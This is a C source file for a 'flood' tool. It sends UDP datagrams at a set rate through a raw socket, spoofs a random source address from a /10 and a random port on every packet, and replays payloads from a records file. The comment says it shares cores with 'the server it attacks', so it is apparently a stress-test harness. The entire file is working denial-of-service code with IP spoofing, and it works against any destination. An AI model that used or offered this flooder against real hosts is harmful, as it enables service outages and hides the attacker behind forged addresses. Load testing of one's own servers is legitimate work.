/* Sends datagrams at a fixed rate, each from another source address:
 *
 *   flood RECORDS RATE SECONDS DESTINATION PORT SOURCES
 *
 * RECORDS is a file of datagrams, each behind its length (2 bytes, little-endian); they are sent in
 * turn. RATE is datagrams a second. SOURCES is the first address of the /10 that sources are drawn
 * from; the port is drawn too. Prints `sent N seconds S` at the end.
 *
 * A program in C because it shares two cores with the server it attacks: node sends some tens of
 * thousands of datagrams a second, sendmmsg on a raw socket hundreds of thousands. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, LARGEST = 1500, IP = 20, HEADERS = 28, SOURCE_BITS = 22 };

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* xorshift64* */
static uint64_t draw(void) {
  static uint64_t state = 0x9e3779b97f4a7c15;
  state ^= state >> 12;
  state ^= state << 25;
  state ^= state >> 27;
  return state * 0x2545f4914f6cdd1d;
}

static uint8_t *read_file(const char *path, size_t *size) {
  FILE *file = fopen(path, "rb");
  if (!file) return NULL;
  fseek(file, 0, SEEK_END);
  *size = (size_t)ftell(file);
  rewind(file);
  uint8_t *bytes = malloc(*size);
  if (bytes && fread(bytes, 1, *size, file) != *size) bytes = NULL;
  fclose(file);
  return bytes;
}

int main(int argc, char **argv) {
  if (argc != 7) return 2;
  size_t size = 0;
  const uint8_t *records = read_file(argv[1], &size);
  const double rate = atof(argv[2]);
  const double seconds = atof(argv[3]);
  const int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (!records || raw < 0) {
    perror("flood");
    return 1;
  }
  struct sockaddr_in to = {.sin_family = AF_INET};
  struct in_addr first;
  inet_pton(AF_INET, argv[4], &to.sin_addr);
  inet_pton(AF_INET, argv[6], &first);

  static uint8_t packets[BATCH][HEADERS + LARGEST];
  static struct mmsghdr messages[BATCH];
  static struct iovec vectors[BATCH];
  for (int i = 0; i < BATCH; i++) {
    struct iphdr *ip = (struct iphdr *)packets[i];
    ip->version = 4;
    ip->ihl = IP / 4;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->daddr = to.sin_addr.s_addr;
    ((struct udphdr *)(packets[i] + IP))->dest = htons((uint16_t)atoi(argv[5]));
    vectors[i].iov_base = packets[i];
    messages[i].msg_hdr = (struct msghdr){
        .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &vectors[i], .msg_iovlen = 1};
  }

  uint64_t sent = 0;
  uint64_t offered = 0;
  size_t at = 0;
  const double start = now();
  for (double t = 0; t < seconds; t = now() - start) {
    if (t * rate - (double)offered < BATCH) {
      const struct timespec nap = {.tv_nsec = 200000};
      nanosleep(&nap, NULL);
      continue;
    }
    for (int i = 0; i < BATCH; i++) {
      if (at + 2 > size) at = 0;
      const size_t length = records[at] | (size_t)records[at + 1] << 8;
      struct iphdr *ip = (struct iphdr *)packets[i];
      struct udphdr *udp = (struct udphdr *)(packets[i] + IP);
      const uint64_t random = draw();
      ip->saddr = htonl(ntohl(first.s_addr) + (uint32_t)(random & ((1u << SOURCE_BITS) - 1)));
      udp->source = htons((uint16_t)(1024 + (random >> 32) % 60000));
      udp->len = htons((uint16_t)(8 + length));
      memcpy(packets[i] + HEADERS, records + at + 2, length);
      vectors[i].iov_len = HEADERS + length;
      at += 2 + length;
    }
    const int done = sendmmsg(raw, messages, BATCH, 0);
    if (done > 0) sent += (uint64_t)done;
    offered += BATCH;
  }
  printf("sent %lu seconds %.2f\n", sent, now() - start);
  return 0;
}
